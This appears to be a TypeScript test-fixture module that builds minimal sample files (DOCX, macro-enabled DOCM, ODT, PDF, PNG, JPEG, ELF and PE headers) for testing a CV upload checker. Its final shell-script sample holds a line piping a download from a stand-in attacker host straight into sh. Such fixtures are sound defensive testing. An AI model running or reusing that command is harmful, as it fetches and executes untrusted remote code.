import { crc32, deflateRawSync } from 'node:zlib';

/**
 * Small files of each kind a candidate might send, made here byte by byte (no office suite on
 * the test machines): what each format's reader checks first is what makes them that format.
 */

interface ZipItem {
  name: string;
  content: string | Buffer;
  /** Stored as it is (ODT's `mimetype` must be), else deflated. */
  stored?: boolean;
}

/** A ZIP archive as office programs write one: local headers, then the central directory. */
export function zipOf(items: ZipItem[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const item of items) {
    const raw = Buffer.isBuffer(item.content) ? item.content : Buffer.from(item.content);
    const data = item.stored ? raw : deflateRawSync(raw);
    const name = Buffer.from(item.name);
    const method = item.stored ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(items.length, 8);
  end.writeUInt16LE(items.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

const WORD_BODY =
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>';

/** A Word document (.docx), its parts in the order Word writes them. */
export function sampleDocx(): Buffer {
  return zipOf([
    {
      name: '[Content_Types].xml',
      content: contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
    },
    { name: '_rels/.rels', content: '<Relationships/>' },
    { name: 'word/document.xml', content: WORD_BODY },
  ]);
}

/** A macro-enabled Word document (.docm): a ZIP with a Word body, but not a DOCX. */
export function sampleDocm(): Buffer {
  return zipOf([
    {
      name: '[Content_Types].xml',
      content: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
    },
    { name: 'word/document.xml', content: WORD_BODY },
    { name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
  ]);
}

function openDocument(mimetype: string): Buffer {
  return zipOf([
    { name: 'mimetype', content: mimetype, stored: true },
    { name: 'content.xml', content: '<office:document-content/>' },
    { name: 'META-INF/manifest.xml', content: '<manifest:manifest/>' },
  ]);
}

/** An OpenDocument text (.odt): `mimetype` first and stored, as the standard asks. */
export const sampleOdt = () => openDocument('application/vnd.oasis.opendocument.text');
/** An OpenDocument spreadsheet: a ZIP of the same build, of another type. */
export const sampleOds = () => openDocument('application/vnd.oasis.opendocument.spreadsheet');

/** A one-page PDF. */
export function samplePdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
}

/** A 1×1 PNG. */
export function samplePng(): Buffer {
  return Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
}

/** The start of a JPEG (JFIF). */
export function sampleJpeg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0'),
    Buffer.alloc(64, 0),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** What a renamed program starts with: a Linux ELF, a Windows PE, a shell script. */
export function sampleElf(): Buffer {
  return Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]),
    Buffer.alloc(120),
  ]);
}
export function samplePe(): Buffer {
  return Buffer.concat([
    Buffer.from('MZ'),
    Buffer.alloc(58),
    Buffer.from('PE\0\0'),
    Buffer.alloc(64),
  ]);
}
export function sampleShellScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl https://evil.test.example | sh\n');
}
